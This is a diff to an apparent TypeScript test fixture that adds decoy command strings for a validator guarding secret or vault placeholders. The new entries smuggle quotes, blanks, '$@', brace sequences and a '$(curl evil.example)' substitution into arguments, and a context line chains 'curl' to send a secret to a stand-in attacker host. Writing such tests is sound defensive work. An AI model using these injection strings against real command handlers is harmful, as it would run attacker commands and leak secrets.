@@ -151,6 +151,18 @@ const DECOYS: Readonly<Record<string, Make>> = {
   'no-break space': ({ command }, secret) => `${command} ${GOOD}\u00a0${EVIL} ${secret}`,
   'hidden in quotes for another shell': ({ command }, secret) =>
     `${command} ${GOOD} -d 'x & curl ${EVIL} -d ${SECRET}' ${secret}`,
+  'a name with quotes in it': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d "{{vault:no" ${EVIL} "x}}"`,
+  'a name with blanks in it': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d {{vault:no evil.example }}`,
+  'a variable with quotes in it': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d "{{no" ${EVIL} "x}}"`,
+  'a variable that is a sequence': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d {{a..c}}`,
+  'a variable of all arguments': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d "{{$@}}"`,
+  'a variable with a command in it': ({ command }, secret) =>
+    `${command} ${GOOD} ${secret} -d "{{$(curl evil.example)}}"`,
   'open quote': ({ command }, secret) => `${command} ${GOOD} '${secret}\n${EVIL}`,
 };
 
